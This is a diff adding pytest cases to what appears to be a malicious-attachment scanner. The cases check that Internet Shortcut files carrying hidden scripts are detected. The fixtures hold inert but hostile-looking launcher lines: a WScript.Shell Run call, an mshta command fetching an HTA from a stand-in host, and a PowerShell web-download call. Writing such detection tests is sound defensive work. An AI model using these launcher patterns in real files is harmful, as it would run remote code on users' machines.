@@ -76,3 +76,28 @@ def test_a_script_does_not_become_one_by_its_first_line():
 
 def test_a_library_that_is_cut_is_a_gap():
     assert not look(LIBRARY.format("\\\\198.51.100.7\\a")[:-30], "a.library-ms").complete
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        (
+            "a.js",
+            'var InternetShortcut;\r\nvar shell = new ActiveXObject("WScript.Shell");\r\nshell.Run("emotriage-inert");',
+        ),
+        ("a.bat", "URL=https://a.emotriage.invalid/\r\n@echo off\r\nstart mshta http://a.emotriage.invalid/x.hta\r\n"),
+        (
+            "a.txt",
+            '@echo off\r\nset A=1\r\nif exist C:\\inert goto end\r\ncall powershell -c "iwr emotriage"\r\n:end\r\n',
+        ),
+    ],
+)
+def test_a_script_behind_the_section_is_looked_at(name, text):
+    verdict = look(f"[InternetShortcut]\r\n{text}", name)
+    assert verdict.artifacts[0].kind == "url"
+    assert any(one.rule.startswith("script.") for one in verdict.findings)
+
+
+def test_an_honest_link_has_no_script_in_it():
+    verdict = look("[InternetShortcut]\r\nURL=https://www.emotriage.invalid/\r\nIconIndex=0\r\n", "a.url")
+    assert len(verdict.artifacts) == 1
